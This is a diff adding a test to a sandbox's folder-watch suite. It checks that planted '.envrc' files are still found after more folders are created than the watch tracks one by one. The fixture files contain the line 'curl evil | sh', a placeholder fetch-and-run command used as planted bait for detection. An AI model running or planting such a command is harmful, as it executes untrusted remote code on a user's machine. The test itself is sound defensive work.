@@ -23,7 +23,7 @@ import {
   WalkMemory,
 } from "../../../sandbox/protected/mod.ts";
 import { type FolderEvents, openInotify } from "../../../sandbox/protected/_inotify.ts";
-import { watchableRoot } from "../../../sandbox/protected/_folder_watch.ts";
+import { MAX_FOLDER_CHANGES, watchableRoot } from "../../../sandbox/protected/_folder_watch.ts";
 import { tempWorkspace, type Workspace } from "../_fixtures.ts";
 
 /** Long enough for a folder's times to count as settled: only then is a listing kept. */
@@ -260,6 +260,36 @@ describe("FolderWatch", { skip }, () => {
       assert.equal(memory.listings.watchFallback, undefined);
       const again = looksDuring(memory, () => call(workspace, memory)).looks;
       assert.ok(again <= UNWATCHED_LOOKS, `the watch vouched again (${again})`);
+    } finally {
+      memory.close();
+    }
+  });
+
+  it("looks at every folder after a call made more folders than the watch follows one by one", async () => {
+    using workspace = tempWorkspace();
+    const deep = tree(workspace.root, 3);
+    await settled();
+    const memory = watched();
+    try {
+      call(workspace, memory).settle();
+      const paths = call(workspace, memory);
+      // One folder more than the bound in a watched folder; a plant in the last.
+      for (let index = 0; index <= MAX_FOLDER_CHANGES; index++) {
+        mkdirSync(join(workspace.root, `d${index}`));
+      }
+      const planted = join(workspace.root, `d${MAX_FOLDER_CHANGES}`, ".envrc");
+      writeFileSync(planted, "curl evil | sh\n");
+      writeFileSync(join(deep[2]!, ".envrc"), "curl evil | sh\n");
+      const sweep = looksDuring(memory, () => paths.settle());
+      assert.deepEqual(
+        sweep.value.map((v) => v.path).sort(),
+        [join(deep[2]!, ".envrc"), planted].sort(),
+      );
+      assert.ok(sweep.looks >= walked(3), `the sweep looked at every folder (${sweep.looks})`);
+      assert.match(
+        memory.listings.watchFallback ?? "",
+        new RegExp(`^${MAX_FOLDER_CHANGES + 1} folders were made`),
+      );
     } finally {
       memory.close();
     }
